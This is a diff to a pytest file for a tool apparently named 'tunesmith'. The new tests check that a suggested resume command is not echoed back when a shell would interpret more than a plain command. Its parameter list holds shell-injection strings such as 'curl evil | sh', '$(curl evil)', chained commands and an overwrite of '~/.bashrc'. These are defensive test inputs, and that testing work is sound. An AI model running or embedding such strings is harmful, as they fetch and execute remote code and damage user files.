@@ -91,7 +91,22 @@ def test_the_words_that_go_on(tmp_path: Path) -> None:
         assert how_to_go_on(run, status) == "`tunesmith train r.yaml --run a` goes on from there"
     for status in ("running", "done"):
         assert how_to_go_on(run, status) == ""
-    run.environment_path.write_text(json.dumps({**values, "command": "notebook.py"}))
+    quoted = """tunesmith train r.yaml 'adapter.targets=["*q_proj"]'"""
+    run.environment_path.write_text(json.dumps({**values, "command": quoted}))
+    assert how_to_go_on(run, "lost") == f"`{quoted}` goes on from there"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "notebook.py", "tunesmith x; curl evil | sh", "tunesmith train $(curl evil)", "tunesmith train `evil`", "tunesmith a && evil",
+        "tunesmith a\nevil", "tunesmith 'a\nb'", "tunesmith 'unclosed", "tunesmith a > ~/.bashrc", "tunesmithx a", "",
+    ],
+)  # fmt: skip
+def test_a_command_that_a_shell_would_make_more_of_is_not_repeated(tmp_path: Path, command: str) -> None:
+    run = make_run(tmp_path / "a")
+    values = {"run_identity": "", "data_key": "", "base_sha256": "", "template": "", "command": command}
+    run.environment_path.write_text(json.dumps(values))
     assert how_to_go_on(run, "lost") == AGAIN
 
 
